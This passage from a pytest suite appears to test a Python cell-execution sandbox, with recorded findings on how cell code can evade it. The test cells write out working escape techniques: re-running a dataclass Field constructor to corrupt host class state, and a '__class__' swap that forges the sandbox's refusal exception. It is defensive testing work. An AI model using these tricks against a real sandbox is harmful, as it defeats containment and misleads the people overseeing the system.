             "except BaseException as e:\n    RESULT = type(e).__name__")
    report = run_cells(cell, probe=probe)
    assert report["probe"] == "ok", report["probe"]


def test_held_super_routes_to_refused_library_members():
    cell = '''
import numpy as np, scipy.stats as st
class S(np.ndarray):
    pass
class R(st.rv_continuous):
    def _pdf(self, x):
        return 1.0
s, r = np.zeros(3).view(S), R()
n = 0
for f in (lambda: super(S, s).resize, lambda: super(S, s).__setstate__,
          lambda: super(R, r)._attach_argparser_methods, lambda: np.zeros(3).resize):
    try:
        f(); print("read")
    except Exception:
        n += 1
print("refused", n)
'''
    assert "refused 4" in _out(run_cells(cell))


@pytest.mark.xfail(strict=True, reason="FINDING R17-6b (full: host class state outlives the cell): the GenericAlias "
                   "dataclasses.Field[int].__init__ re-runs Field's constructor on a library dataclass's real Field "
                   "(scipy's BootstrapResult) past the 'constructor runs once' rule; the host's dataclasses.fields() "
                   "of that class loses the field for the rest of the process")
def test_r17_6b_alias_reinit_of_library_dataclass_field():
    cell = '''
import dataclasses, numpy as np, scipy.stats as st
res = st.bootstrap((np.arange(10.0),), np.mean, n_resamples=20)
fs = dataclasses.fields(res)
try:
    dataclasses.Field[int].__init__(fs[0], dataclasses.MISSING, dataclasses.MISSING, True, True, None, True, None,
                                    False)
except Exception as e:
    print("refused", type(e).__name__)
'''
    probe = ("import dataclasses, numpy as np, scipy.stats as st\n"
             "res = st.bootstrap((np.arange(10.0),), np.mean, n_resamples=20)\n"
             "RESULT = [f.name for f in dataclasses.fields(res)]")
    report = run_cells(cell, probe=probe)
    assert "confidence_interval" in report["probe"], report["probe"]


@pytest.mark.xfail(strict=True, reason="FINDING R17-4d (lesser): the dataclass '__class__' swap makes a cell "
                   "ImportError subclass instance an instance of the sandbox's own ImportDenied (the rule 'the "
                   "sandbox's refusals cannot be imitated' holds only for class statements); the engine reports the "
                   "forged object, carrying cell objects, as its own refusal")
def test_r17_4d_forged_runtime_denial():
    cell = '''
import dataclasses
try:
    import os
except Exception as ex:
    DenialCls = type(ex)
class T:
    pass
class X(ImportError):
    __annotations__ = {"what": object, "rule": object, "__class__": object}
X = dataclasses.dataclass(X)
raise X(T(), T(), DenialCls)
'''
    report = run_cells(cell)
    assert "ERR ImportDenied: (<" not in _out(report), _out(report)
